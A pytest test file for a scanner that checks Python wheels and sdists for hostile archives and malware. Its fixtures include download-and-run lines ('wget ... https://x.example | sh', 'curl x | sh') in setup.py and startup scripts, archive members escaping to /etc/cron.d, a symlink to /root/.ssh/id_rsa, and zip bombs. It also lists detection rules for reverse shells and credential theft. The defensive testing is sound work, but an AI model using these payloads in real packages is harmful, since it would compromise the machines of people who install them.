"""Hostile archives (bombs, escaping paths, corrupt files) and crashing rules fail closed."""

from __future__ import annotations

import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest

from checker.exit_codes import ExitCode, SkillgateError
from checker.findings import Finding, Severity
from checker.heuristics import ArchiveLimits, ArtifactError, RuleRegistry, scan_artifact
from checker.heuristics.archive import read_archive
from checker.heuristics.artifact import ArtifactView, PythonModule
from checker.heuristics.interface import HeuristicRule
from tests.heuristics.artifacts import write_sdist, write_wheel


def _errors(findings: Iterable[Finding]) -> list[tuple[str, str]]:
    return [(f.rule, f.file) for f in findings if f.severity is Severity.ERROR]


def test_parent_directory_member_is_reported_and_not_read(tmp_path: Path) -> None:
    artifact = write_sdist(
        tmp_path, "evilpkg", {"setup.py": ""}, raw_names={"../../etc/cron.d/evil": "* * * * *"}
    )
    findings = scan_artifact(artifact)
    assert ("heuristics.unsafe-path", f"{artifact.name}!../../etc/cron.d/evil") in _errors(findings)
    paths = [m.path for m in read_archive(artifact).members]
    assert "../../etc/cron.d/evil" not in paths


def test_absolute_zip_member_is_reported(tmp_path: Path) -> None:
    artifact = write_wheel(tmp_path, "evilpkg", {"/etc/profile.d/evil.sh": "curl x | sh"})
    assert ("heuristics.unsafe-path", f"{artifact.name}!/etc/profile.d/evil.sh") in _errors(
        scan_artifact(artifact)
    )


def test_symlink_leaving_the_archive_is_reported(tmp_path: Path) -> None:
    artifact = write_sdist(
        tmp_path,
        "evilpkg",
        {"setup.py": ""},
        symlinks={"evilpkg/key": "../../../root/.ssh/id_rsa", "docs/ok.css": "../evilpkg/x.css"},
    )
    errors = _errors(scan_artifact(artifact))
    assert ("heuristics.unsafe-path", f"{artifact.name}!evilpkg-1.0/evilpkg/key") in errors
    # A link that stays inside the sdist (docutils ships these) is fine.
    assert all("docs/ok.css" not in file for _, file in errors)


def test_zip_bomb_member_is_not_decompressed(tmp_path: Path) -> None:
    artifact = write_wheel(tmp_path, "evilpkg", {"evilpkg/data.py": b"#" * (4 * 1024 * 1024)})
    limits = ArchiveLimits(ratio_floor_bytes=1024 * 1024, max_ratio=50)
    findings = scan_artifact(artifact, limits=limits)
    assert ("heuristics.archive-bomb", f"{artifact.name}!evilpkg/data.py") in _errors(findings)


def test_tar_bomb_stops_reading(tmp_path: Path) -> None:
    artifact = write_sdist(tmp_path, "evilpkg", {"big.bin": b"\0" * (4 * 1024 * 1024)})
    limits = ArchiveLimits(ratio_floor_bytes=1024 * 1024, max_ratio=50)
    rules = [rule for rule, _ in _errors(scan_artifact(artifact, limits=limits))]
    assert "heuristics.archive-bomb" in rules


def test_too_many_members(tmp_path: Path) -> None:
    files = {f"evilpkg/m{i}.py": "" for i in range(20)}
    artifact = write_wheel(tmp_path, "evilpkg", files)
    rules = [r for r, _ in _errors(scan_artifact(artifact, limits=ArchiveLimits(max_members=10)))]
    assert rules == ["heuristics.archive-limit"]


def test_oversized_source_is_a_gating_finding(tmp_path: Path) -> None:
    artifact = write_wheel(tmp_path, "evilpkg", {"evilpkg/big.py": "x = 1\n" * 2000})
    limits = ArchiveLimits(max_text_member_bytes=1000)
    assert ("heuristics.archive-limit", f"{artifact.name}!evilpkg/big.py") in _errors(
        scan_artifact(artifact, limits=limits)
    )


def test_corrupt_artifact_cannot_be_decided(tmp_path: Path) -> None:
    artifact = tmp_path / "evilpkg-1.0-py3-none-any.whl"
    artifact.write_bytes(b"PK\x03\x04 this is not a zip file")
    with pytest.raises(ArtifactError) as raised:
        scan_artifact(artifact)
    assert isinstance(raised.value, SkillgateError)
    assert raised.value.exit_code is ExitCode.UNDECIDED
    assert "evilpkg-1.0-py3-none-any.whl: cannot read artifact" in str(raised.value)


def test_missing_and_unknown_artifacts_cannot_be_decided(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError, match="artifact not found"):
        scan_artifact(tmp_path / "gone-1.0.tar.gz")
    odd = tmp_path / "evilpkg-1.0.exe"
    odd.write_bytes(b"MZ")
    with pytest.raises(ArtifactError, match="not a wheel or an sdist"):
        scan_artifact(odd)


def test_stored_zip_member_with_lying_size_is_bounded(tmp_path: Path) -> None:
    artifact = write_wheel(
        tmp_path, "evilpkg", {"evilpkg/a.py": "x = 1\n" * 500}, compression=zipfile.ZIP_STORED
    )
    limits = ArchiveLimits(max_text_member_bytes=100)
    rules = [rule for rule, _ in _errors(scan_artifact(artifact, limits=limits))]
    assert rules == ["heuristics.archive-limit"]


class CrashingRule(HeuristicRule):
    """A rule with a bug: it raises on every module."""

    name = "crashing"
    rule_ids = ("test.crash",)

    def check_module(self, artifact: ArtifactView, module: PythonModule) -> Iterable[Finding]:
        raise KeyError(module.member.path)


def test_crashing_rule_fails_closed(tmp_path: Path) -> None:
    artifact = write_wheel(tmp_path, "goodpkg", {"goodpkg/__init__.py": "VALUE = 1\n"})
    registry = RuleRegistry.default()
    registry.register(CrashingRule())
    findings = scan_artifact(artifact, registry=registry)
    [crash] = [f for f in findings if f.rule == "heuristics.rule-crashed"]
    assert crash.severity is Severity.ERROR
    assert crash.file == f"{artifact.name}!goodpkg/__init__.py"
    assert "'crashing' crashed (KeyError" in crash.message
    # The other rules still ran and found nothing.
    assert [f.rule for f in findings] == ["heuristics.rule-crashed"]


def test_unparseable_python_is_noted_not_gated(tmp_path: Path) -> None:
    artifact = write_sdist(tmp_path, "oldpkg", {"oldpkg/py2.py": "print 'hello'\n"})
    [finding] = scan_artifact(artifact, target_python=sys.version_info[:2])
    assert (finding.rule, finding.severity) == ("heuristics.unparsed", Severity.NOTICE)


def test_unparseable_python_for_a_newer_target_cannot_be_decided(tmp_path: Path) -> None:
    # Syntax no released Python accepts stands in for "newer than the scanning interpreter".
    artifact = write_wheel(tmp_path, "newpkg", {"newpkg/__init__.py": "type X[T] = list[T] ??\n"})
    host = sys.version_info[:2]
    [finding] = scan_artifact(artifact, target_python=(host[0], host[1] + 1))
    assert (finding.rule, finding.severity) == ("heuristics.unparsed", Severity.ERROR)
    assert "cannot decide" in finding.message


def test_code_nested_too_deeply_to_parse_cannot_be_decided(tmp_path: Path) -> None:
    source = "x = " + " + ".join(["'a'"] * 20_000) + "\nexec(x)\n"
    artifact = write_wheel(tmp_path, "deeppkg", {"deeppkg/__init__.py": source})
    [finding] = scan_artifact(artifact)
    assert (finding.rule, finding.severity) == ("heuristics.unparsed", Severity.ERROR)
    assert "nested too deeply" in finding.message


def test_long_call_chain_is_analysed_without_crashing(tmp_path: Path) -> None:
    source = "import os\nx = os" + ".a()" * 1200 + "\n"
    artifact = write_wheel(tmp_path, "chainpkg", {"chainpkg/__init__.py": source})
    assert scan_artifact(artifact) == []


def test_registry_lists_rule_ids() -> None:
    ids = RuleRegistry.default().rule_ids()
    for expected in (
        "mal.install-hook-network",
        "mal.pth-exec",
        "mal.decode-exec",
        "mal.download-exec",
        "mal.reverse-shell",
        "mal.credential-exfil",
        "mal.exfil-endpoint",
        "mal.bundled-binary",
        "mal.obfuscation",
        "mal.reflective-call",
        "mal.exec-string",
        "mal.dns-exfil",
        "mal.sysinfo-exfil",
        "mal.browser-credentials",
        "mal.persistence",
        "mal.process-injection",
        "mal.capture",
        "heuristics.analysis-incomplete",
    ):
        assert expected in ids


def test_zip_sdist_is_read_like_a_tarball(tmp_path: Path) -> None:
    artifact = tmp_path / "evilpkg-1.0.zip"
    with zipfile.ZipFile(artifact, "w") as archive:
        archive.writestr("evilpkg-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evilpkg\n")
        archive.writestr(
            "evilpkg-1.0/setup.py", "import os\nos.system('wget -q -O- https://x.example | sh')\n"
        )
    errors = _errors(scan_artifact(artifact))
    assert errors == [("mal.install-hook-process", f"{artifact.name}!evilpkg-1.0/setup.py")]
